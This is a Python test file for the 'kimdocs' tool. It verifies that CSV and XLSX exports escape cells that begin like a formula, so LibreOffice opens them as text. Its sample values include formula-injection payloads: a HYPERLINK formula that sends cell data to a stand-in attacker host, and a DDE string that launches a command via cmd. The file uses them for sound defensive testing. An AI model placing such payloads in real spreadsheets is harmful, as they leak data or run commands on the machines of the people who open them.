"""Exports that cannot execute (#28, point 3): every CSV and XLSX of kimdocs opens in
LibreOffice with fields that begin like a formula as text.

LibreOffice is told to evaluate formulas when it imports a CSV (the import dialog's
"Formeln auswerten"), so that a cell written as it stands would come back a formula. Each
file is opened and saved as XLSX by LibreOffice, and the cells are read back with openpyxl:
a formula would have the type ``f``.
"""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path

from click.testing import Result
from openpyxl import load_workbook

from kimdocs.base.tables import FORMULA_START, as_text, excel_csv, formula_like
from tests.outputs import tool

HYPERLINK = '=HYPERLINK("http://angreifer.example/?x="&B2;"Details")'
# One value per character OWASP names; tab and carriage return inside YAML strings.
HOSTILE = {
    "=": HYPERLINK,
    "+": "+1+1",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUMME(1;2)",
}


def _opened_in_libreoffice(file: Path, tmp_path: Path) -> list[list[tuple[object, str]]]:
    """Every cell of every sheet as LibreOffice sees it: (value, type)."""
    out = tmp_path / f"lo-{file.suffix[1:]}"
    command = [
        tool("soffice"),
        f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
        "--headless",
    ]
    if file.suffix == ".csv":
        # Semicolon, quote, UTF-8, from line 1, standard columns, German, …, token 13:
        # evaluate formulas.
        command.append("--infilter=CSV:59,34,76,1,,1031,false,false,false,false,false,false,true")
    subprocess.run(
        [*command, "--convert-to", "xlsx", "--outdir", str(out), str(file)],
        capture_output=True,
        timeout=600,
        check=True,
    )
    book = load_workbook(out / f"{file.stem}.xlsx")
    return [
        [(cell.value, cell.data_type) for cell in row if cell.value is not None]
        for sheet in book.worksheets
        for row in sheet.iter_rows()
    ]


def _texts(cells: list[list[tuple[object, str]]]) -> list[str]:
    formulas = [value for row in cells for value, kind in row if kind == "f"]
    assert not formulas, formulas
    return [str(value) for row in cells for value, _ in row]


def test_the_rule_is_owasps() -> None:
    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r")
    for start in FORMULA_START:
        assert formula_like(f"{start}1") and as_text(f"{start}1") == f"'{start}1"
    assert not formula_like(-3) and as_text(-3) == -3  # a number stays a number
    assert as_text("Text = Text") == "Text = Text"
    assert excel_csv(["=a"], [{"=a": "\tb"}]) == "\ufeff'=a\r\n'\tb\r\n"


def test_actions_and_consents_open_as_text(
    basic: Path, cli: Callable[..., Result], write_agreement: Callable[..., Path], tmp_path: Path
) -> None:
    write_agreement(
        "T-0002",
        {
            "was: Ein Schritt": f"was: '{HYPERLINK}'",
            "wer: Klient": f"wer: '{HOSTILE['+']}'",
            "  informiert_am: 2026-03-02": (
                "  informiert_am: 2026-03-02\n"
                "  einwilligung_am: 2026-03-02\n"
                "einwilligungen:\n"
                f'  - zweck: "{HOSTILE["@"]}"\n'
                f'    organisationen: ["{HOSTILE["-"]}"]\n'
                '    datenkategorien: ["\\tKontaktdaten"]\n'
                "    datum: 2026-03-02\n"
                "    gültig_bis: 2027-03-01"
            ),
        },
    )
    # What the agreement states rests on the case's signed form, hostile values alike.
    (basic / "content" / "einwilligungen" / "T-0002-einwilligung-2026-03-02.md").write_text(
        "---\n"
        "art: einwilligung\n"
        "fall_id: T-0002\n"
        "bezirk: mitte\n"
        "datum: 2026-03-02\n"
        "klient:\n"
        "  name: Test Person (fiktiv)\n"
        "einwilligung:\n"
        "  gilt_für: [vereinbarung]\n"
        f'  zweck: "{HOSTILE["@"]}"\n'
        f'  organisationen: ["{HOSTILE["-"]}"]\n'
        '  datenkategorien: ["\\tKontaktdaten"]\n'
        "  datum: 2026-03-02\n"
        "  unterschrieben_am: 2026-03-02\n"
        "  gültig_bis: 2027-03-01\n"
        "---\n",
        encoding="utf-8",
    )
    for command in ("aktionen", "einwilligungen"):
        result = cli(basic, command, "-f", "csv", "-o", f"{command}.csv")
        assert "Traceback" not in result.output, result.output
        assert "Fehler" not in result.output, result.output  # no file is left out
        written = basic / "output" / f"{command}.csv"
        assert written.is_file(), result.output
        texts = _texts(_opened_in_libreoffice(written, tmp_path))
        wanted = (
            [HYPERLINK, HOSTILE["+"]] if command == "aktionen" else [HOSTILE["@"], HOSTILE["-"]]
        )
        for value in wanted:
            # Text, with the apostrophe that marks it as text.
            assert f"'{value}" in texts, (value, texts)


def test_report_csv_and_xlsx_open_as_text(tmp_path: Path, cli: Callable[..., Result]) -> None:
    """A district's name from kimdocs.toml lands in every row of the report's tables."""
    from tests.controlling_fixture import write_project, write_report

    root = write_project(tmp_path / "kreis")
    config = root / "kimdocs.toml"
    text = config.read_text(encoding="utf-8")
    assert 'name = "Nord"' in text
    config.write_text(text.replace('name = "Nord"', 'name = "=1+1"'), encoding="utf-8")
    write_report(root)
    result = cli(root, "build", "-f", "xlsx,csv", "content/berichte")
    assert result.exit_code == 0, result.output
    built = root / "output" / "berichte"

    # The district is a column: its name and unit, as written, shown as text.
    xlsx = _texts(_opened_in_libreoffice(built / "bericht.xlsx", tmp_path))
    assert "=1+1 (Anzahl)" in xlsx, xlsx
    csv_cells = _texts(_opened_in_libreoffice(built / "bericht.csv", tmp_path))
    assert "'=1+1" in csv_cells, csv_cells
    # What openpyxl itself reads: a string marked as typed text, never a formula.
    book = load_workbook(built / "bericht.xlsx")
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    named = [c for c in cells if str(c.value).startswith("=1+1")]
    assert named and all(c.data_type == "s" and c.quotePrefix for c in named)
